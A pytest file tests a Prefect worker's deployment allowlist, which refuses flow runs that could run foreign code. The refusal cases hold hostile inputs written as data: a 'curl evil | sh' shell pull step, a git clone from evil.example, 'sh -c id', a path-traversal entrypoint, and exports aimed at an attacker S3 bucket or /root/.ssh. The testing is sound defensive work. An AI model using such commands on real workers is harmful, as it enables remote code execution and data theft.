"""The allowlist a worker checks each flow run against (deployments/allowlist.py), read from this
checkout's prefect.yaml and from a made-up one; the attack itself, on real workers, is
tests/service/test_allowlist.py."""

from __future__ import annotations

from pathlib import Path

import pytest

from deployments.allowlist import ROOT, WORKING_DIRECTORY_STEP, AllowedDeployment, Allowlist, AllowlistError

OURS = Allowlist.from_project()


def deployment(name: str = "gpu", **fields: object) -> dict:
    """A deployment as the API returns it after `prefect deploy` of this checkout."""
    return {
        "name": name, "entrypoint": OURS.deployments[name].entrypoint if name in OURS.deployments else "x.py:f",
        "job_variables": {}, "storage_document_id": None, "infrastructure_document_id": None,
        "pull_steps": [{WORKING_DIRECTORY_STEP: {"directory": "/srv/elsewhere/podcastpile"}}], **fields,
    }


def test_every_deployment_of_prefect_yaml_is_allowed_with_its_flow_parameters() -> None:
    assert set(OURS.deployments) == {"gpu", "adhoc", "archive", "dispatch", "stats", "export"}
    batch = OURS.deployments["gpu"]
    assert batch.entrypoint == "flows/process.py:process_batch"
    assert batch.local_entrypoint() == f"{ROOT}/flows/process.py:process_batch"
    assert batch.parameters == {"batch_size", "episode_ids"}  # read from the source, not imported
    for name in OURS.deployments:
        assert isinstance(OURS.match(deployment(name), {}, {}), AllowedDeployment), name


def test_a_run_is_refused_for_each_thing_that_could_run_other_code() -> None:
    refused = {
        "unknown": OURS.match(deployment("evil"), {}, {}),
        "entrypoint": OURS.match(deployment(entrypoint="flows/../../tmp/evil.py:main"), {}, {}),
        "deployment job variables": OURS.match(deployment(job_variables={"command": "sh -c id"}), {}, {}),
        "run job variables": OURS.match(deployment(), {"working_dir": "/tmp/evil"}, {}),
        "storage block": OURS.match(deployment(storage_document_id="0b7c"), {}, {}),
        "shell pull step": OURS.match(deployment(pull_steps=[
            {WORKING_DIRECTORY_STEP: {"directory": "/srv"}},
            {"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}]), {}, {}),
        "git pull step": OURS.match(deployment(pull_steps=[
            {"prefect.deployments.steps.git_clone": {"repository": "https://evil.example/x.git"}}]), {}, {}),
        "parameter": OURS.match(deployment(), {}, {"__import__": "os"}),
        "no deployment": OURS.match(None, {}, {}),
    }
    for case, reason in refused.items():
        assert isinstance(reason, str), case
    assert "run_shell_script" in refused["shell pull step"]
    assert "'__import__'" in refused["parameter"]


def test_a_checkout_with_explicit_pull_steps_allows_exactly_those(tmp_path: Path) -> None:
    (tmp_path / "flows").mkdir()
    (tmp_path / "flows" / "job.py").write_text("def run(limit: int = 1, *, dry: bool = False):\n    pass\n")
    clone = [{"prefect.deployments.steps.git_clone": {"repository": "https://git.example/pp.git"}}]
    (tmp_path / "prefect.yaml").write_text(
        "pull:\n  - prefect.deployments.steps.git_clone:\n      repository: https://git.example/pp.git\n"
        "deployments:\n  - name: job\n    entrypoint: flows/job.py:run\n    job_variables:\n      env: {A: '1'}\n"
    )
    allowlist = Allowlist.from_project(tmp_path)
    assert allowlist.deployments["job"].parameters == {"limit", "dry"}
    ok = {"name": "job", "entrypoint": "flows/job.py:run", "job_variables": {"env": {"A": "1"}}, "pull_steps": clone}
    assert isinstance(allowlist.match(ok, None, {"dry": True}), AllowedDeployment)
    other = [{"prefect.deployments.steps.git_clone": {"repository": "https://evil.example/pp.git"}}]
    assert isinstance(allowlist.match({**ok, "pull_steps": other}, None, {}), str)
    assert isinstance(allowlist.match({**ok, "job_variables": {}}, None, {}), str)


def test_an_unreadable_prefect_yaml_is_one_clear_error(tmp_path: Path) -> None:
    with pytest.raises(AllowlistError, match="cannot read"):
        Allowlist.from_project(tmp_path)
    (tmp_path / "prefect.yaml").write_text("deployments:\n  - name: x\n    entrypoint: flows/missing.py:f\n")
    with pytest.raises(AllowlistError, match="missing.py"):
        Allowlist.from_project(tmp_path)


def test_a_run_may_not_choose_where_the_export_writes_or_what_dispatch_drives() -> None:
    """Parameter values the flows name in FIXED_PARAMETERS: only prefect.yaml sets them."""
    export, dispatch = deployment("export"), deployment("dispatch")
    for allowed in ({}, {"out": None}, {"out": None, "where": None}):
        assert isinstance(OURS.match(export, {}, allowed), AllowedDeployment), allowed
    for elsewhere in ("/tmp/elsewhere", "./dataset", "s3://attacker/bucket", "file:///root/.ssh", ""):
        reason = OURS.match(export, {}, {"out": elsewhere})
        assert isinstance(reason, str) and reason.startswith(f"parameter 'out' of deployment 'export' is {elsewhere!r}")
        assert "only this worker's prefect.yaml sets it" in reason
    # `where` stays the run's: the flow parses it itself (podcastpile.dataset.filters)
    assert isinstance(OURS.match(export, {}, {"where": "duration > 600"}), AllowedDeployment)
    # dispatch's own default, spelled out, is still its default
    for allowed in ({}, {"deployment": "process-batch/gpu"}, {"max_waiting": 3}):
        assert isinstance(OURS.match(dispatch, {}, allowed), AllowedDeployment), allowed
    assert isinstance(OURS.match(dispatch, {}, {"deployment": "attacker/shell"}), str)


def test_prefect_yaml_fixes_the_value_of_a_fixed_parameter(tmp_path: Path) -> None:
    """A filtered release's own deployment (docs/dataset.md) gives `out` in prefect.yaml: that
    value, and no other, is allowed (not even the default)."""
    (tmp_path / "flows").mkdir()
    (tmp_path / "flows" / "export.py").write_text(
        "DEFAULT = 'x'\nFIXED_PARAMETERS = ('out', 'mode')\n\n"
        "def export_flow(out: str | None = None, where: str | None = None, mode: str = DEFAULT):\n    pass\n")
    (tmp_path / "prefect.yaml").write_text(
        "deployments:\n  - name: export-clean\n    entrypoint: flows/export.py:export_flow\n"
        "    parameters:\n      out: s3://bucket/clean\n      where: speech_ratio > 0.8\n")
    allowlist = Allowlist.from_project(tmp_path)
    assert allowlist.deployments["export-clean"].fixed == {"out": ("s3://bucket/clean",), "mode": (None, "x")}
    clean = {"name": "export-clean", "entrypoint": "flows/export.py:export_flow", "pull_steps": []}
    assert isinstance(allowlist.match(clean, {}, {"out": "s3://bucket/clean", "mode": "x"}), AllowedDeployment)
    for out in (None, "s3://bucket/other"):
        assert isinstance(allowlist.match(clean, {}, {"out": out}), str), out
    assert isinstance(allowlist.match(clean, {}, {"out": "s3://bucket/clean", "mode": "y"}), str)
    (tmp_path / "flows" / "export.py").write_text("FIXED_PARAMETERS = 'out'\ndef export_flow(out=None):\n    pass\n")
    with pytest.raises(AllowlistError, match="FIXED_PARAMETERS must be a tuple"):
        Allowlist.from_project(tmp_path)
